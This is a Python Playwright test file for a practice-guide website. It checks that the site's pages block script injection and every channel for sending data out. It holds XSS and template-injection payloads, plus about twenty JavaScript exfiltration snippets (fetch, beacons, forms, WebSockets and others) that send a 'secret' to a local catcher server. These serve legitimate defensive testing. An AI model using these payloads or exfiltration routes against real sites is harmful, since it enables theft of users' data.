"""Nothing leaves a practice page, whatever a contributed guide or a script tries."""

from __future__ import annotations

import http.server
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from tests.conftest import mkdocs

PAYLOADS = [
    '<img src=x onerror="pwned=1">',
    "<script>pwned=1</script>",
    '"><svg onload=pwned=1>',
    "javascript:pwned=1",
    "{{ 7*7 }}",
    "' onfocus='pwned=1' autofocus='",
]

# Each way out that a page's policy can close, tried by a script that somehow got in.
WAYS_OUT = {
    "fetch": "fetch(to).catch(() => {})",
    "XHR": "const x = new XMLHttpRequest(); x.open('POST', to); try { x.send('secret'); } catch {}",
    "beacon": "navigator.sendBeacon(to, 'secret')",
    "image": "new Image().src = to",
    "CSS background": "document.body.style.backgroundImage = `url(${to})`",
    "style sheet": "add('link', {rel: 'stylesheet', href: to})",
    "prefetch": "add('link', {rel: 'prefetch', href: to})",
    "preload": "add('link', {rel: 'preload', as: 'image', href: to})",
    "module preload": "add('link', {rel: 'modulepreload', href: to})",
    "script": "add('script', {src: to})",
    "import": "import(to).catch(() => {})",
    "frame": "add('iframe', {src: to})",
    "object": "add('object', {data: to})",
    "video": "add('video', {src: to}).load()",
    "font": "new FontFace('f', `url(${to})`).load().catch(() => {})",
    "form": "const f = add('form', {action: to, method: 'get'}); f.submit()",
    "form to a frame": "add('iframe', {name: 'out'}); const g = add('form', {action: to, target: 'out'}); g.submit()",
    "ping": "const a = add('a', {href: '#x', ping: to}); a.click()",
    "WebSocket": "try { new WebSocket(to.replace('http', 'ws')); } catch {}",
    "EventSource": "try { new EventSource(to); } catch {}",
    "worker": "try { new Worker(to); } catch {}",
    "postMessage": "for (const w of [opener, parent]) if (w && w !== window) w.postMessage('secret', '*')",
}


@pytest.fixture
def catcher() -> Iterator[tuple[str, list[str]]]:
    """Another machine's address, and what it was asked for."""
    asked: list[str] = []

    class Catcher(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><link rel='icon' href='data:,'>")

        do_POST = do_GET

        def log_message(self, *_: object) -> None:
            """Say nothing."""

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Catcher)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}/", asked
    server.shutdown()
    server.server_close()


def test_no_way_out_is_open_to_a_script_in_the_page(page: Page, served: str, catcher: tuple[str, list[str]]) -> None:
    """All but moving the whole window and opening another, which no policy of a page can forbid: see below."""
    address, asked = catcher
    page.goto(f"{served}/guides/ouvrir-un-site/entrainement.html#etape-3")
    field = page.locator("#etape-3 input[type=text]").first
    field.fill("secret")
    add = "const add = (t, a) => document.body.appendChild(Object.assign(document.createElement(t), a));"
    for name, script in WAYS_OUT.items():
        page.evaluate(f"(to) => {{ {add} {script}; }}", arg=f"{address}{name.replace(' ', '-')}")
    page.evaluate(
        "() => new Promise((done) => requestIdleCallback(() => requestAnimationFrame(() => setTimeout(done))))"
    )
    assert page.url.startswith(served)
    for name in ("control", "control-again"):  # asked last: what had got out would have come before
        control = page.context.new_page()
        control.goto(address + name)
    assert asked == ["/control", "/control-again"]


def test_what_authors_write_never_becomes_a_script_a_link_or_a_request(
    page: Page, example: Path, tmp_path: Path, catcher: tuple[str, list[str]]
) -> None:
    """A way out needs a script: none can come from a guide, so moving the window and popups are closed too."""
    address, asked = catcher
    folder = example.parent / "guides/lire-un-courriel"
    screens = ["  cadre: navigateur", "  contenu:"]
    for payload in [*PAYLOADS, f"<img src={address}a>", f"url({address}b)", address]:
        quoted = "'" + payload.replace("'", "''") + "'"
        screens += [
            f"    - {kind}: {quoted}" for kind in ("titre", "bouton", "lien", "case", "message", "tuile", "fichier")
        ]
        screens += [f"    - champ: {quoted}", f"      aide: {quoted}", f"      valeur: {quoted}"]
        screens += [f"    - liste: {quoted}", f"      choix: [Oui, {quoted}]"]
        screens += [f"    - piece_jointe: {quoted}", f"      valeur: {quoted}"]
    screens += [
        "    - champ: 'A\" onfocus=\"pwned=1'",
        "      valeur: '\"><script>pwned=1</script>'",
        "      repere: 1",
    ]
    screens += ["    - bouton: '<script>pwned=1</script>'", "      repere: 2"]
    storyboard = (folder / "ecrans.yml").read_text("utf-8").partition("message:")[2]
    (folder / "ecrans.yml").write_text("boite:\n" + "\n".join(screens) + "\n\nmessage:" + storyboard, "utf-8")
    guide = (folder / "guide.md").read_text("utf-8")
    guide = guide.replace("Cliquez sur **Votre rendez-vous** (1).", "Écrivez dans la case (1). Le bouton est ici (2).")
    (folder / "guide.md").write_text(guide, "utf-8")
    done = mkdocs(example, tmp_path / "site")
    assert done.returncode == 0, done.stderr
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto((tmp_path / "site/guides/lire-un-courriel/entrainement.html").as_uri())
    live = page.locator("#etape-1 .p-live")
    for control in live.locator("button >> visible=true").all()[:-1]:
        control.click()
    field = live.locator("[data-marker='1'] >> visible=true").last
    field.fill('"><script>pwned=1</script>')
    field.press("Enter")
    live.locator("button[data-marker='2']").click()
    expect(page.locator("#etape-2")).to_be_visible()
    assert page.evaluate("() => typeof pwned") == "undefined"
    assert live.locator("a, img, iframe, form, [href], [src], [onfocus], [onload], [onerror]").count() == 0
    assert [url for url in requests if not url.startswith("file:")] == []
    assert asked == []
    assert page.context.pages == [page]
    assert page.url.startswith("file:")
